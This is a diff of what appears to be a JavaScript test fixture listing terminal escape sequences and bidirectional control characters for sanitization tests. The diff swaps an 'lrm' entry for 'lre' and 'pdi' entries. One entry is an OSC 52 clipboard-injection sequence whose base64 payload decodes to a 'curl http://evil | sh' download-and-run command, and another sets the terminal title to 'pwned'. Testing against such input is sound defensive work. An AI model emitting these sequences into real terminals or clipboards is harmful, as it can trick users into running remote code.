@@ -46,7 +46,7 @@ const MULTI_LINE = new Set(['candidate.signature', 'sent[0].body', 'edits[0].bod
 const ESCAPES = [
   ['csi', '\u001b[31m'], ['osc52', '\u001b]52;c;Y3VybCBodHRwOi8vZXZpbCB8IHNo\u0007'], ['osc-title', '\u001b]0;pwned\u001b\\'],
   ['c1-csi', '\u009b2J'], ['c1-osc', '\u009d0;x\u009c'], ['del', '\u007f'], ['nul', '\u0000'], ['bel', '\u0007'],
-  ['backspace', '\b\b\b'], ['cr', '\roverwritten'], ['rlo', '\u202e'], ['isolate', '\u2066x\u2069'], ['lrm', '\u200e'],
+  ['backspace', '\b\b\b'], ['cr', '\roverwritten'], ['rlo', '\u202e'], ['isolate', '\u2066x\u2069'], ['lre', '\u202a'], ['pdi', '\u2069'],
 ];
 const LINE_BREAKS = [['newline', '\nsecond line'], ['tab', '\tindented']];
 
